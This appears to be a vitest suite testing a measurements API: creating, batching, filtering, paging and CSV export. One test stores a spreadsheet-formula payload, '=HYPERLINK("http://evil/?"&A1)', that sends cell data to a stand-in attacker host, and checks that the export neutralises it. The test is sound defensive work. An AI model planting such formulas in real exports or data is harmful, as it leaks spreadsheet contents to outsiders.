import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { recipeWithTask, uniqueCode } from './helpers/fixtures.js';
import { DIALECTS, type Harness, startMeasure } from './helpers/harness.js';

describe.each(DIALECTS)('measurements on %s', (dialect) => {
  let h: Harness;
  let tec: { id: number; key: string };
  let metro: { id: number; key: string };
  beforeAll(async () => {
    h = await startMeasure(dialect);
    tec = await h.user(['MeasurementTec']);
    metro = await h.user(['Metrologist']);
  });
  afterAll(() => h?.close());

  async function point() {
    const recipe = await recipeWithTask(h);
    const version = recipe.current_version;
    const [s1, s2] = version.tasks[0].subtasks;
    return { recipe, versionId: version.id as number, s1: s1.id as number, s2: s2.id as number };
  }

  it('POST records one measurement with computed pass_fail, deviation and measured_by', async () => {
    const { versionId, s1 } = await point();
    const res = await h.call('POST', '/api/measurements/', {
      key: tec.key,
      body: {
        subtask_id: s1,
        version_id: versionId,
        value: 10.7,
        lot_number: 'L1',
        serial_number: 'S1',
        input_method: 'usb_caliper',
      },
    });
    expect(res.status).toBe(200);
    expect(res.body).toMatchObject({
      subtask_id: s1,
      version_id: versionId,
      measured_by: tec.id,
      pass_fail: 'warning',
      lot_number: 'L1',
      input_method: 'usb_caliper',
      synced_to_csv: false,
    });
    expect(res.body.deviation).toBeCloseTo(0.7);
    expect(Date.parse(res.body.measured_at)).not.toBeNaN();
  });

  it('400 when the subtask does not exist or belongs to another version', async () => {
    const { versionId, s1 } = await point();
    const missing = await h.call('POST', '/api/measurements/', {
      key: tec.key,
      body: { subtask_id: 999999, version_id: versionId, value: 1 },
    });
    expect(missing.status).toBe(400);
    const other = await h.call('POST', '/api/measurements/', {
      key: tec.key,
      body: { subtask_id: s1, version_id: versionId - 1, value: 1 },
    });
    expect(other.status).toBe(400);
    expect(other.body.detail).toContain('version_id');
  });

  it('batch stores every item or none', async () => {
    const { recipe, versionId, s1, s2 } = await point();
    const lot = uniqueCode('LOT');
    const good = [9.0, 10, 10.2, 11.5].map((value, i) => ({
      subtask_id: i % 2 ? s2 : s1,
      version_id: versionId,
      value: i % 2 ? value + 10 : value,
      lot_number: lot,
    }));
    const ok = await h.call('POST', '/api/measurements/batch', {
      key: tec.key,
      body: { measurements: good },
    });
    expect(ok.status).toBe(200);
    expect(ok.body.map((m: { pass_fail: string }) => m.pass_fail)).toEqual([
      'warning',
      'pass',
      'pass',
      'fail',
    ]);

    const badLot = uniqueCode('LOT');
    const bad = [...good, { subtask_id: s1, version_id: versionId + 1000, value: 1 }].map((m) => ({
      ...m,
      lot_number: badLot,
    }));
    const refused = await h.call('POST', '/api/measurements/batch', {
      key: tec.key,
      body: { measurements: bad },
    });
    expect(refused.status).toBe(400);
    expect(refused.body.detail).toContain('measurements.4');
    const stored = await h.call('GET', `/api/measurements/?lot_number=${badLot}`, { key: metro.key });
    expect(stored.body.total).toBe(0);
    const kept = await h.call('GET', `/api/measurements/?recipe_id=${recipe.id}`, { key: metro.key });
    expect(kept.body.total).toBe(4);
  });

  it('lists with every filter and paging', async () => {
    const { recipe, versionId, s1, s2 } = await point();
    const lot = uniqueCode('LOT');
    const items = Array.from({ length: 12 }, (_, i) => ({
      subtask_id: i < 6 ? s1 : s2,
      version_id: versionId,
      value: i < 6 ? 10 + i * 0.3 : 20,
      lot_number: lot,
      serial_number: `SN-${i % 3}`,
    }));
    await h.call('POST', '/api/measurements/batch', { key: tec.key, body: { measurements: items } });
    const q = (query: string) =>
      h.call('GET', `/api/measurements/?recipe_id=${recipe.id}&${query}`, { key: metro.key });
    expect((await q('')).body.total).toBe(12);
    expect((await q(`subtask_id=${s2}`)).body.total).toBe(6);
    expect((await q(`version_id=${versionId}`)).body.total).toBe(12);
    expect((await q(`measured_by=${tec.id}`)).body.total).toBe(12);
    expect((await q(`measured_by=${metro.id}`)).body.total).toBe(0);
    expect((await q(`lot_number=${lot}&serial_number=SN-1`)).body.total).toBe(4);
    expect((await q('pass_fail=fail')).body.total).toBe(2);
    const today = new Date().toISOString().slice(0, 10);
    expect((await q(`date_from=${today}&date_to=${today}`)).body.total).toBe(12);
    expect((await q('date_to=2000-01-01')).body.total).toBe(0);
    expect((await q('date_from=2999-01-01T00:00:00Z')).body.total).toBe(0);
    const page = await q('per_page=5&page=3');
    expect(page.body).toMatchObject({ total: 12, page: 3, per_page: 5, pages: 3 });
    expect(page.body.items).toHaveLength(2);
    const noSlash = await h.call('GET', `/api/measurements?recipe_id=${recipe.id}`, { key: metro.key });
    expect(noSlash.body.total).toBe(12);
    expect((await q('pass_fail=maybe')).status).toBe(422);
    expect((await q('date_from=yesterday')).status).toBe(422);
    expect((await q('per_page=501')).status).toBe(422);
    expect((await q('page=-1')).status).toBe(422);
  });

  it('exports CSV with the spec columns, settings delimiter and decimal separator, RFC 4180 quoting', async () => {
    const { recipe, versionId, s1 } = await point();
    const lot = 'Lot "A"; east';
    await h.call('POST', '/api/measurements/batch', {
      key: tec.key,
      body: { measurements: [{ subtask_id: s1, version_id: versionId, value: 10.25, lot_number: lot }] },
    });
    const csv = await h.call('GET', `/api/measurements/export/csv?recipe_id=${recipe.id}`, { key: tec.key });
    expect(csv.status).toBe(200);
    expect(csv.headers.get('content-type')).toContain('text/csv');
    const [header, line] = csv.text.split('\r\n');
    // the spec's columns in its order, then the gauge columns of issue 27 (docs/decisions.md)
    expect(header).toBe(
      'id,subtask_id,version_id,measured_by,value,pass_fail,deviation,lot_number,serial_number,input_method,measured_at,synced_to_csv,taken_at,gauge_code',
    );
    expect(line).toContain(',10.25,pass,');
    expect(line).toContain(',"Lot ""A""; east",');

    await h.call('PUT', '/api/settings/', {
      key: h.adminKey,
      body: { csv_delimiter: ';', csv_decimal_separator: ',' },
    });
    const european = await h.call('GET', `/api/measurements/export/csv?recipe_id=${recipe.id}`, {
      key: metro.key,
    });
    const row = european.text.split('\r\n')[1] as string;
    expect(row).toContain(';10,25;pass;');
    expect(row).toContain(';"Lot ""A""; east";');
    await h.call('PUT', '/api/settings/', {
      key: h.adminKey,
      body: { csv_delimiter: ',', csv_decimal_separator: '.' },
    });
  });

  it('neutralises spreadsheet formulas in text cells; numbers stay numbers', async () => {
    const { recipe, versionId, s1 } = await point();
    const lot = '=HYPERLINK("http://evil/?"&A1)';
    await h.call('POST', '/api/measurements/batch', {
      key: tec.key,
      body: {
        measurements: [
          { subtask_id: s1, version_id: versionId, value: 9.75, lot_number: lot, serial_number: '@SUM(1)' },
        ],
      },
    });
    const csv = await h.call('GET', `/api/measurements/export/csv?recipe_id=${recipe.id}`, { key: tec.key });
    const line = csv.text.split('\r\n')[1] as string;
    expect(line).toContain(`,"'=HYPERLINK(""http://evil/?""&A1)",'@SUM(1),`);
    // value 9.75, deviation -0.25: a number, not text
    expect(line).toContain(',9.75,pass,-0.25,');
  });

  it('exports more rows than one cursor batch, in id order, each once', async () => {
    const { recipe, versionId, s1 } = await point();
    const items = Array.from({ length: 5000 }, (_, i) => ({
      subtask_id: s1,
      version_id: versionId,
      value: 9 + (i % 100) / 50,
    }));
    await h.call('POST', '/api/measurements/batch', { key: tec.key, body: { measurements: items } });
    await h.call('POST', '/api/measurements/batch', {
      key: tec.key,
      body: { measurements: items.slice(0, 1) },
    });
    const csv = await h.call('GET', `/api/measurements/export/csv?recipe_id=${recipe.id}`, { key: tec.key });
    const ids = csv.text
      .trim()
      .split('\r\n')
      .slice(1)
      .map((l) => Number(l.split(',')[0]));
    expect(ids).toHaveLength(5001);
    expect(new Set(ids).size).toBe(5001);
    expect([...ids].sort((a, b) => a - b)).toEqual(ids);
    // Several exports at once, while measurements keep arriving, each get the whole file.
    const path = `/api/measurements/export/csv?recipe_id=${recipe.id}`;
    const [a, b, , c] = await Promise.all([
      h.call('GET', path, { key: tec.key }),
      h.call('GET', path, { key: metro.key }),
      h.call('POST', '/api/measurements/batch', { key: tec.key, body: { measurements: items.slice(0, 10) } }),
      h.call('GET', path, { key: tec.key }),
    ]);
    for (const res of [a, b, c]) {
      expect(res.status).toBe(200);
      expect(res.text.trim().split('\r\n').length - 1).toBeGreaterThanOrEqual(5001);
    }
  });
});
